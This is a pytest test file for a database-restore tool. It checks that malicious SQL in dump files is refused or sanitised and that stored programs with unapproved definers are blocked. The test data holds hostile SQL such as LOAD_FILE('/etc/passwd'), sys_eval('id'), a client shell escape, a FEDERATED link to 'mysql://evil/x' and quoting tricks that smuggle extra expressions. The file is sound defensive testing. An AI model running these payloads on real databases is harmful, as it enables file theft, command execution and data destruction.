"""A dump that is restored runs nothing on the target but what dump programs write for the databases to restore.

Attacker: whoever can write to the dump's file. What is sent is compared; a server is not needed to see it.
"""

from __future__ import annotations

from collections.abc import Collection, Mapping
from pathlib import Path
from typing import Final

import pytest

from binlane.bootstrap.sessions import Session
from binlane.errors import ConfigError, PlanError
from binlane.model import Flavor
from binlane.orchestration.commands.copies.restore_plan import (
    EndRequest,
    RestorePlan,
    RestoreRequest,
    definers_row,
    plan_restore,
)
from binlane.restore.definers import OWN_ACCOUNT, definers_in
from binlane.restore.dump_file import DumpFile
from binlane.restore.dump_folder import DumpFolder
from binlane.restore.dump_load import DumpLoad

PAD: Final = b" " * 500
VERSIONS: Final = {Flavor.MARIADB: (10, 11, 6), Flavor.MYSQL: (9, 7, 0)}
STATEMENTS: Final[Mapping[str, tuple[bytes, ...]]] = {
    "a second table far behind the first": (b"DROP TABLE IF EXISTS `t`" + PAD + b", other.victim",),
    "a new name far behind the keys": (b"ALTER TABLE `t` DISABLE KEYS" + PAD + b", RENAME TO other.x",),
    "a new name": (b"ALTER TABLE `t` RENAME TO `u`",),
    "a name that two skipped comments make": (b"DROP TABLE IF EXISTS /*!999999 ` */ t, other.victim /*!999999 ` */",),
    "a table that has another name in the dump's character set": (
        "CREATE TABLE `Ã©` (a INT)".encode(), b"SET NAMES latin1", "INSERT INTO `é` VALUES (1)".encode()
    ),
    "a query among values": (b"INSERT INTO `t` VALUES ((SELECT MAX(a) FROM mysql.user))",),
    "a function among values": (b"INSERT INTO `t` VALUES (other.f())",),
    "a function without a database": (b"INSERT INTO `t` VALUES (f())",),
    "a file among values": (b"INSERT INTO `t` VALUES (LOAD_FILE('/etc/passwd'))",),
    "a function as a default": (b"INSERT INTO `t` VALUES (DEFAULT(f()))",),
    "a function behind values": (b"INSERT INTO `t` VALUES (1) ON DUPLICATE KEY UPDATE a = other.f()",),
    "a comment behind values": (b"INSERT INTO `t` VALUES (1) /*M! RETURNING other.f() */",),
    "a quote in a comment": (b"INSERT INTO `t` VALUES (1) -- '\n, (other.f()) -- '",),
    "a quote behind a backslash that is one": (
        b"SET SQL_MODE='NO_BACKSLASH_ESCAPES'", b"INSERT INTO `t` VALUES ('\\'), (other.f()) -- ')"
    ),
    "the same mode, saved": (
        b"SET SQL_MODE='NO_BACKSLASH_ESCAPES'", b"SET @a=@@sql_mode", b"SET SQL_MODE=''", b"SET SQL_MODE=@a",
        b"INSERT INTO `t` VALUES ('\\'), (other.f()) -- ')",
    ),
    "a mode that is read in the SET that changes it": (
        b"SET SQL_MODE='NO_BACKSLASH_ESCAPES', @a=@@SQL_MODE", b"SET SQL_MODE=@a",
        b"INSERT INTO `t` VALUES ('\\',',(SELECT MAX(a) FROM mysql.user)) #')",
    ),
    "a saved mode that is used in the SET that saves it": (
        b"SET @a=@@SQL_MODE", b"SET SQL_MODE='NO_BACKSLASH_ESCAPES'", b"SET @a=@@SQL_MODE, SQL_MODE=@a",
        b"INSERT INTO `t` VALUES ('\\',',(SELECT MAX(a) FROM mysql.user)) #')",
    ),
    "a mode from another variable": (b"SET @a=@@time_zone", b"SET SQL_MODE=@a"),
    "a mode from nowhere": (b"SET SQL_MODE=@a",),
    "a backslash that is a part of a character": (
        b"SET NAMES gbk", b"INSERT INTO `t` VALUES ('\xbf\\\\'), ('), (other.f()) -- ')"
    ),
    "a name in double quotes": (b"SET SQL_MODE='ANSI_QUOTES'", b'INSERT INTO `t` VALUES ("a")'),
    "a function in double quotes that end": (b'INSERT INTO `t` VALUES ("a\\\\", other.f(), "b")',),
    "a quote in double quotes whose backslash is one": (
        b"SET SQL_MODE='NO_BACKSLASH_ESCAPES'", b'INSERT INTO `t` VALUES ("\\"), (other.f()) -- ")'
    ),
    "a function that is converted": (b"INSERT INTO `t` VALUES (CONVERT(other.f() USING UTF8MB4))",),
    "a function behind a conversion": (b'INSERT INTO `t` VALUES (CONVERT("a" USING UTF8MB4), other.f())',),
    "a character set that is a function": (b'INSERT INTO `t` VALUES (CONVERT("a" USING f()))',),
    "a file behind a sequence": (b"SELECT SETVAL(`s`,1,0) INTO OUTFILE '/tmp/x'",),
    "a function behind a sequence": (b"DO SETVAL(`s`,1,0), other.f()",),
    "a table of another database": (b"CREATE OR REPLACE TABLE other.victim (a INT)",),
    "a table of accounts": (b"CREATE OR REPLACE TABLE mysql.global_priv (a INT)",),
    "a table of the state": (b"ALTER TABLE binlane.windows DROP COLUMN state",),
    "the same, in a version comment": (b"/*!50003 ALTER TABLE */ /*!50003 binlane.windows DROP COLUMN state */",),
    "a table that names the database in a comment": (b"CREATE TABLE other.victim (a INT) COMMENT 'shop'",),
    "rows of another database": (b"CREATE TABLE `x` AS SELECT * FROM mysql.user",),
    "a function in a table's query": (b"CREATE TABLE `x` AS SELECT f() AS a",),
    "a table like another database's": (b"CREATE TABLE `x` LIKE mysql.user",),
    "a partition of another database": (b"ALTER TABLE `t` EXCHANGE PARTITION p WITH TABLE other.y",),
    "a table of tables elsewhere": (b"CREATE TABLE `f` (a INT) ENGINE=MERGE UNION=(other.t)",),
    "a table on another server": (b"CREATE TABLE `f` (a INT) ENGINE=FEDERATED CONNECTION='mysql://evil/x'",),
    "a table of a file": (b"CREATE TABLE `f` (a INT) ENGINE 'CONNECT' TABLE_TYPE=DOS FILE_NAME='/etc/passwd'",),
    "a table on other servers": (b"CREATE TABLE `f` (a INT) ENGINE=`Spider` COMMENT='wrapper \"mysql\"'",),
    "a table in a bucket": (b"ALTER TABLE `t` ENGINE = S3",),
    "the same engine of a partition": (
        b"CREATE TABLE `f` (a INT) PARTITION BY HASH (a) (PARTITION p ENGINE = SPIDER COMMENT = 'x')",
    ),
    "the same engine in a comment": (b"CREATE TABLE `f` (a INT) /*!50000 ENGINE=FEDERATED */",),
    "a sequence on another server": (b"CREATE SEQUENCE `s` ENGINE=FEDERATED",),
    "files of another table": (b"ALTER TABLE `t` IMPORT TABLESPACE",),
    "a view of another database": (b"CREATE OR REPLACE VIEW other.v AS SELECT 1",),
    "a procedure of another database": (b"CREATE PROCEDURE other.p() SELECT 1",),
    "an event of another database": (b"ALTER EVENT other.e ENABLE",),
    "a trigger of another database": (b"CREATE TRIGGER other.r BEFORE INSERT ON other.t FOR EACH ROW SET @a = 1",),
    "a definer in a spelling of its own": (b"CREATE DEFINER=root@localhost PROCEDURE p() SELECT 1",),
    "the same behind a blank": (b"CREATE DEFINER =`root`@`localhost` VIEW v AS SELECT 1",),
    "the same behind a comment": (b"CREATE DEFINER=/**/`root`@`localhost` VIEW v AS SELECT 1",),
    "the same in small letters": (b"CREATE definer=`root`@`localhost` FUNCTION f() RETURNS INT RETURN 1",),
    "a trigger in front of rows": (
        b"CREATE TRIGGER r BEFORE INSERT ON `t` FOR EACH ROW DELETE FROM other.victim", b"INSERT INTO `T` VALUES (1)"
    ),
    "the same by a letter that servers alone turn into another one": (
        b"CREATE TRIGGER r BEFORE INSERT ON `i` FOR EACH ROW DELETE FROM other.victim",
        "INSERT INTO `\u0130` VALUES (1)".encode(),
    ),
    "the same by the name of the table's file": (
        b"CREATE TRIGGER r BEFORE INSERT ON `t` FOR EACH ROW DELETE FROM other.victim",
        b"INSERT INTO `#MySQL50#t` VALUES (1)",
    ),
    "a table by its file's name": (b"DROP TABLE IF EXISTS `#mysql50#t`",),
    "keys of a table by its file's name": (b"ALTER TABLE `#mysql50#t` DISABLE KEYS",),
    "a sequence by its file's name": (b"DO SETVAL(`#mysql50#s`, 1, 0)",),
    "rows through a view": (b"CREATE VIEW `v` AS SELECT * FROM `t`", b"INSERT INTO `v` VALUES (1)"),
    "a function of a library in an event's schedule": (
        b"CREATE DEFINER=`a`@`%` EVENT e ON SCHEDULE AT sys_eval('id') DO SELECT 1",
    ),
    "a function of a library behind a name that is a word of the grammar": (
        b"CREATE DEFINER=`a`@`%` EVENT `shop`.do ON SCHEDULE AT sys_eval('id') DO SELECT 1",
    ),
    "an end of the load's lease in an event's schedule": (
        b"CREATE DEFINER=`a`@`%` EVENT e ON SCHEDULE EVERY 1 + RELEASE_ALL_LOCKS() DAY DO SELECT 1",
    ),
    "a function of a library as a default": (b"CREATE TABLE `t` (a TEXT DEFAULT (sys_eval('id')))",),
    "the same without parentheses": (b"CREATE TABLE `t` (a TEXT DEFAULT sys_eval ('id'))",),
    "an end of the load's lease in the interval of a table's history": (
        b"CREATE TABLE `t` (a INT) PARTITION BY SYSTEM_TIME INTERVAL 1 + 0*RELEASE_ALL_LOCKS() DAY PARTITIONS 2",
    ),
    "the same in quotes": (b"CREATE TABLE `t` (a TEXT DEFAULT `sys_eval`('id'))",),
    "the same in a computed column": (b"CREATE TABLE `t` (a TEXT AS (CONCAT(sys_eval('id'))) VIRTUAL)",),
    "the same in a check": (b"CREATE TABLE `t` (a TEXT, CONSTRAINT c CHECK (a > sys_eval('id')))",),
    "the same in a partition": (b"CREATE TABLE `t` (a INT) PARTITION BY LIST (a) (PARTITION p VALUES IN (f(1)))",),
    "the same in a key": (b"CREATE TABLE `t` (a INT, KEY k ((sys_eval(1))))",),
    "the same in a part of a text": (b"CREATE TABLE `t` (a TEXT DEFAULT (SUBSTRING('a' FROM 1 FOR sys_eval(1))))",),
    "the same in a column that is added": (b"ALTER TABLE `t` ADD b TEXT DEFAULT (sys_eval('id'))",),
    "a sequence of another database as a default": (b"CREATE TABLE `t` (a INT DEFAULT nextval(other.s))",),
    "a library": (b"CREATE FUNCTION run RETURNS INT SONAME 'lib.so'",),
    "a command of the client": (b"\\! id",),
    "a file of the client": (b"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",),
}  # fmt: skip
"""The last statement, or one before it, is refused. A line more is an attack more."""
SETTINGS: Final[Mapping[bytes, bytes | None]] = {
    b"SET UNIQUE_CHECKS=0, GLOBAL general_log_file='/tmp/x'": None,
    b"SET UNIQUE_CHECKS=0, @@GLOBAL.read_only=1": None,
    b"SET @a=1, GLOBAL max_connections=1": None,
    b"SET @a=other.f()": None,
    b"SET UNIQUE_CHECKS=other.f()": None,
    b"SET UNIQUE_CHECKS=(SELECT 1)": None,
    b"SET UNIQUE_CHECKS=0, PASSWORD=PASSWORD('x')": None,
    b"SET PERSIST UNIQUE_CHECKS=0": None,
    b"SET UNIQUE_CHECKS=0, SQL_LOG_BIN=0": b"SET UNIQUE_CHECKS=0",
    b"SET CHARACTER_SET_RESULTS=utf16": None,
    b"SET @OLD=@@SQL_NOTES, SQL_NOTES=0": b"SET @OLD=@@SQL_NOTES",
}
"""What is sent of them. A line more is an attack more."""
FOLDERS: Final[Mapping[bytes, bytes]] = {
    b"CREATE TABLE `t` (`data` INT) ENGINE=InnoDB DATA DIRECTORY='/home/x' COMMENT='DATA DIRECTORY=1'":
        b"CREATE TABLE `t` (`data` INT) ENGINE=InnoDB  COMMENT='DATA DIRECTORY=1'",
    b"CREATE TABLE `t` (a INT) INDEX DIRECTORY \"/home/x\" DATA DIRECTORY = '/home/x'":
        b"CREATE TABLE `t` (a INT)",
    b"CREATE TABLE `t` (a INT) /*!50100 TABLESPACE `other` */ ENGINE=InnoDB":
        b"CREATE TABLE `t` (a INT) ENGINE=InnoDB",
    b"CREATE TABLE `t` (a INT) PARTITION BY HASH (a) (PARTITION p DATA DIRECTORY = '/x' ENGINE = InnoDB)":
        b"CREATE TABLE `t` (a INT) PARTITION BY HASH (a) (PARTITION p  ENGINE = InnoDB)",
}  # fmt: skip
"""What is sent of tables with folders. A line more is an attack more."""
ROWS: Final = b"INSERT  IGNORE INTO `t` (`a`, `b`) VALUES\n" + (
    b"(1,-2.5e-10,NULL,'it''s \\'x; \\\\',_binary '\\0\xff',0xFF00),\n"
    b'(.5,"it\\"s",CONVERT("{\\"a\\": 1}" USING UTF8MB4))'
)
TRIGGER: Final = b"TRIGGER r BEFORE INSERT ON t FOR EACH ROW SET NEW.v = 1"
WRITTEN: Final = (
    (b"/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */",
     b"SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT"),
    (b"/*!40101 SET NAMES utf8mb4 */", b"SET NAMES utf8mb4"),
    (b"/*!40014 SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0 */",
     b"SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0"),
    (b"/*!40101 SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO' */",
     b"SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO'"),
    (b"/*!40101 SET character_set_client = utf8 */", b"SET character_set_client = utf8"),
    (b"/*!40101 SET character_set_client = @OLD_CHARACTER_SET_CLIENT */",
     b"SET character_set_client = @OLD_CHARACTER_SET_CLIENT"),
    (ROWS, ROWS),
    (b"/*!50003 CREATE*/ /*!50017 DEFINER=`a`@`%`*/ /*!50003 " + TRIGGER + b" */",
     b"CREATE    DEFINER=`a`@`%`    " + TRIGGER),
    (b"INSERT INTO `u` VALUES (1)", b"INSERT INTO `u` VALUES (1)"),
    (b"/*!40101 SET SQL_MODE=@OLD_SQL_MODE */", b"SET SQL_MODE=@OLD_SQL_MODE"),
)  # fmt: skip
"""Statements of dump programs, in turn, and what is sent."""


def _load(flavor: Flavor, definers: Collection[str] | None = None) -> DumpLoad:
    definers = {"a@%", OWN_ACCOUNT} if definers is None else definers
    load = DumpLoad(Session(None, flavor, None), VERSIONS[flavor], "dump.sql", {"shop": "back"}, definers)
    load.statement(b"SET TIME_ZONE='+00:00'")
    assert load.statement(b"USE `shop`") == b"USE `back`"
    return load


@pytest.mark.parametrize("flavor", list(Flavor))
@pytest.mark.parametrize("case", STATEMENTS)
def test_a_dump_of_an_attacker_is_refused_by_its_statement(case: str, flavor: Flavor) -> None:
    load = _load(flavor)
    with pytest.raises((ConfigError, PlanError), match=r"dump\.sql: .*expected"):
        list(map(load.statement, STATEMENTS[case]))


@pytest.mark.parametrize("flavor", list(Flavor))
@pytest.mark.parametrize("statement", SETTINGS)
def test_a_dump_sets_its_own_session_alone(statement: bytes, flavor: Flavor) -> None:
    assert _load(flavor).statement(statement) == SETTINGS[statement]


@pytest.mark.parametrize("flavor", list(Flavor))
@pytest.mark.parametrize("statement", FOLDERS)
def test_a_dump_says_nothing_about_folders(statement: bytes, flavor: Flavor) -> None:
    load = _load(flavor)
    sent = load.statement(statement)
    assert sent is not None
    assert sent.split() == FOLDERS[statement].split()
    assert "left to the target" in load.notes[0]


def test_a_dump_names_its_definers(tmp_path: Path) -> None:
    dump = tmp_path / "dump.sql"
    programs = (
        b"/*!50003 CREATE*/ /*!50017 DEFINER=`root`@`localhost`*/ /*!50003 TRIGGER r .. */;;",
        b"CREATE ALGORITHM=UNDEFINED DEFINER=`a\nb`@`%` SQL SECURITY DEFINER VIEW v AS SELECT 1;",
        b"CREATE DEFINER=`a role` PROCEDURE p() SELECT 1;",
        b"/*!50003 CREATE*/ /*!50003 FUNCTION f() RETURNS INT RETURN 1 */;",
    )
    dump.write_bytes(b"\n".join((b"USE `shop`;", *programs, b"-- Dump completed\n")))
    assert DumpFile(dump).place().definers == {"root@localhost", "a\nb@%", "a role", OWN_ACCOUNT}


PROGRAMS: Final = (
    b"VIEW `v` AS SELECT * FROM mysql.user",
    b"SQL SECURITY DEFINER VIEW `v` AS SELECT 1 AS `a` FROM mysql.user",
    b"VIEW `v` AS SELECT 1 AS `a`, f() AS `b`",
    b"VIEW `v` AS SELECT 1 AS `a` UNION SELECT 2 FROM other.t",
    b"TRIGGER `r` BEFORE INSERT ON `t` FOR EACH ROW DELETE FROM other.victim",
    b"PROCEDURE `p`() DELETE FROM other.victim",
    b"FUNCTION `f`() RETURNS INT RETURN 1",
    b"EVENT `e` ON SCHEDULE EVERY 1 DAY DO DELETE FROM other.victim",
)
"""What runs with its definer's privileges."""
ANOTHER: Final = b"DEFINER=`root`@`localhost` "
STAND_INS: Final = (
    b"CREATE VIEW `v` AS SELECT\n 1 AS `id`,\n  1 AS `a``b`",
    b"/*!50001 CREATE VIEW `v` AS SELECT\n NULL AS `id`*/",
    b"CREATE TABLE `t` (`a` INT)",
    b"CREATE TABLE IF NOT EXISTS `t` (`DEFINER` INT)",
)
"""Without a definer; they read nothing and run nothing."""


@pytest.mark.parametrize("flavor", list(Flavor))
@pytest.mark.parametrize("program", PROGRAMS)
def test_a_program_of_an_account_that_the_plan_does_not_name_is_not_made(program: bytes, flavor: Flavor) -> None:
    own, another = b"CREATE " + program, b"CREATE " + ANOTHER + program
    assert definers_in(b"/*!50003 CREATE*/ /*!50003 " + program + b" */") == {OWN_ACCOUNT}
    assert definers_in(b"/*!50003 CREATE*/ /*!50017 " + ANOTHER + b"*/ /*!50003 " + program + b" */") == {
        "root@localhost"
    }
    for statement, named, other in (own, OWN_ACCOUNT, "root@localhost"), (another, "root@localhost", OWN_ACCOUNT):
        assert definers_in(statement) == {named}
        with pytest.raises(
            ConfigError, match=r"dump\.sql: .*expected a definer that the plan names, found " + named[:9]
        ):
            _load(flavor, {"a@%", other}).statement(statement)
        assert _load(flavor, {named}).statement(statement) is not None


@pytest.mark.parametrize("flavor", list(Flavor))
@pytest.mark.parametrize("statement", STAND_INS)
def test_what_runs_nothing_has_no_definer(statement: bytes, flavor: Flavor) -> None:
    assert definers_in(statement) == set()
    assert _load(flavor, ()).statement(statement) is not None


@pytest.mark.parametrize(
    "name", ["shop-schema-create.sql", "shop.t-schema.sql", "shop.t.sql", "shop-schema-sequence.sql"]
)
def test_a_program_in_a_file_of_another_kind_is_not_made(name: str, tmp_path: Path) -> None:
    (tmp_path / "metadata").write_text("SHOW MASTER STATUS:\n\tLog: b.000001\n\tPos: 4\n\nFinished dump at: x\n")
    (tmp_path / "shop-schema-create.sql").write_text("CREATE DATABASE `shop`;\n")
    (tmp_path / "shop.t-schema.sql").write_text("CREATE TABLE `t` (`a` int);\n")
    with (tmp_path / name).open("ab") as file:
        file.write(b"USE `shop`;\nCREATE " + ANOTHER + b"PROCEDURE p() DELETE FROM other.victim;\n")
    dump = DumpFolder(tmp_path, frozenset({"shop"}))
    load = _load(Flavor.MARIADB, dump.place().definers)
    with pytest.raises(ConfigError, match="expected a definer that the plan names, found root@localhost"):
        list(map(load.statement, dump.statements("")))


@pytest.mark.parametrize("flavor", list(Flavor))
def test_what_dump_programs_write_is_sent(flavor: Flavor) -> None:
    load = _load(flavor)
    assert [load.statement(given) for given, _ in WRITTEN] == [sent for _, sent in WRITTEN]


def test_a_plan_shows_every_definer_and_takes_no_more_than_it_can_show(tmp_path: Path) -> None:
    """Who approves a plan reads it; the writer of the dump decides which accounts come first."""
    dump = tmp_path / "dump.sql"

    def plan(definers: int) -> RestorePlan:
        programs = [b"CREATE DEFINER=`!%04d`@`%%` VIEW v%d AS SELECT 1;" % (each, each) for each in range(definers)]
        own = b"CREATE DEFINER=`root`@`localhost` PROCEDURE p() SELECT 1;"
        dump.write_bytes(b"\n".join((b"USE `shop`;", *programs, own, b"-- Dump completed\n")))
        ends = EndRequest("now", None)
        request = RestoreRequest(None, str(dump), "log", ("shop",), (), None, ends, None, "target")
        return plan_restore(request, tmp_path / "channels")

    with pytest.raises(ConfigError, match=r"expected at most 1,000 accounts .*found 1,001; take a dump of fewer"):
        plan(1000)
    accounts = frozenset({OWN_ACCOUNT, "root@localhost", *(f"!{each:04}@%" for each in range(998))})
    shown = definers_row(accounts)
    assert all(account in shown for account in accounts)
    assert shown.startswith(OWN_ACCOUNT)
